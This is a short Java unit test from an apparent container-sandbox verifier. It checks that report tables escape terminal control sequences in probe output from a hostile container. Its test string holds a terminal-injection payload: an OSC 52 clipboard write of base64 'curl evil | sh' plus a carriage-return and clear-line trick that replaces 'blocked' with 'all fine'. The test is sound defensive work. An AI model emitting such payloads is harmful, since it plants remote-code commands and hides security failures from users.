package dev.claudecage.verify;

import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class ReportTableTest {

    @Test
    void attack_aProbesDetailFromAHostileCageIsShownEscapedNotSentToTheTerminal() {
        String fromTheCage = "blocked\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\r\u001b[2Kall fine";
        VerifyReport report = new VerifyReport(VerifyReport.REPORT_VERSION, "session it", "runc", "/", "none", true,
                List.of(new VerifyReport.ProbeResult("mount-denied", "privileges", "mount is refused", Outcome.BLOCKED,
                        fromTheCage, new VerifyReport.ControlResult("seccomp off", Outcome.BLOCKED, fromTheCage))));
        String table = ReportTable.render(report);
        assertFalse(table.contains("\u001b"), table);
        assertFalse(table.contains("\r"), table);
        assertTrue(table.contains("blocked\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\r\\x1b[2Kall fine"), table);
        assertTrue(table.contains("did not show the hole: blocked\\x1b]52"), table);
    }
}
